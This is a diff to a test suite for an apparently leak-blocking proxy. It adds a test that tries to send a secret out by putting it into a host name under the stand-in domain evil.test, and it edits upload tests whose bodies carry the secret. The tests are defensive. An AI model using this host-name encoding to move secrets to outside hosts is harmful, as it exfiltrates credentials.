@@ -132,6 +132,15 @@ def test_a_credential_that_was_added_meanwhile_is_watched_from_the_next_call(
     assert proxy.last(session).fields["rule"] == "credential:added"
 
 
+def test_no_resolver_hears_a_host_name_that_says_a_secret(proxy: LiveProxy) -> None:
+    session = proxy.spawn("GET https://*.evil.test:8443/**")
+    name = f"{SECRET.lower()}.evil.test:8443"
+    with raw_connect(proxy.port, name, session.auth) as tunnel:
+        assert tunnel.connected is not None
+        assert tunnel.connected.header("x-ghost-reason") == b"credential.leaked"
+    assert proxy.last(session).fields["error"] == "credential.leaked"
+
+
 def test_a_host_name_that_says_a_secret_is_not_recorded(
     proxy: LiveProxy, session: LiveSession
 ) -> None:
@@ -151,7 +160,8 @@ def test_an_upload_is_cut_before_a_secret_is_complete(
     body = b"x" * 2_000_000 + SECRET.encode() + b"y" * 1_000_000
     if coding:
         body = gzip.compress(body, compresslevel=0)
-    headers = {"Host": up.authority, **({"Content-Encoding": coding} if coding else {})}
+    headers = {"Host": up.authority, "Content-Type": "text/plain"}
+    headers |= {"Content-Encoding": coding} if coding else {}
     with secure_connect(proxy.port, up.authority, session.auth, ca=proxy.ca) as tunnel:
         with contextlib.suppress(OSError):  # the rest of it is not taken any more
             tunnel.begin("POST", "/echo", headers, body)
@@ -236,7 +246,7 @@ def test_a_body_whose_coding_cannot_be_undone_passes_with_a_flag(
     proxy: LiveProxy, session: LiveSession, up: Upstream
 ) -> None:
     for coding, body in (("x-odd", b"raw"), ("gzip", b"no gzip"), ("x-odd", b"x" * 2_000_000)):
-        headers = {"Content-Encoding": coding}
+        headers = {"Content-Encoding": coding, "Content-Type": "text/plain"}
         assert (
             sent(proxy, session, up, path="/status/200", headers=headers, body=body).status == 200
         )
